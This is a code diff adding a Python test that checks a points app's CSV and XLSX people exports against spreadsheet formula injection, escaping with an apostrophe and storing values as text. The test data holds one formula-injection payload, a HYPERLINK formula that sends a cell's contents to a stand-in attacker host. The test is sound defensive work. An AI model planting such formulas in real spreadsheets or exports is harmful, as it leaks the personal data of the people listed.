@@ -77,6 +77,25 @@ def test_exports_are_scoped_to_the_admins_subtree_and_carry_chinese_headers(clie
     assert client.get("/sheets/export/people.pdf").status_code == 404
 
 
+def test_names_that_look_like_formulas_export_as_text(client, street, login):
+    evil = '=HYPERLINK("http://attacker.example/?d="&C3,"点击查看")'
+    street.vol_a.full_name = evil
+    street.vol_a2.full_name = "+86 刘建国"
+    db.session.commit()
+    login("admin_a")
+    rows = list(csv.reader(io.StringIO(client.get("/sheets/export/people.csv").data.decode("utf-8-sig"))))
+    names = {r[0]: r[1] for r in rows[1:]}
+    # In the CSV a leading apostrophe keeps a spreadsheet program from running it.
+    assert names["vol_a"] == "'" + evil and names["vol_a2"] == "'+86 刘建国"
+    # In the XLSX the cell is text, exactly as typed.
+    ws = load_workbook(io.BytesIO(client.get("/sheets/export/people.xlsx").data)).active
+    cells = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
+    assert (cells["vol_a"].value, cells["vol_a"].data_type) == (evil, "s")
+    assert (cells["vol_a2"].value, cells["vol_a2"].data_type) == ("+86 刘建国", "s")
+    # Numbers stay numbers.
+    assert csv_bytes(["n"], [[-5], ["-5"]]).decode("utf-8-sig").splitlines() == ["n", "-5", "'-5"]
+
+
 def test_exports_name_every_activity_status_and_ledger_kind_in_words(client, street, login):
     from pointsapp.domain import claims, deductions, notice
     from tests.unit.test_lots import deduct_rule
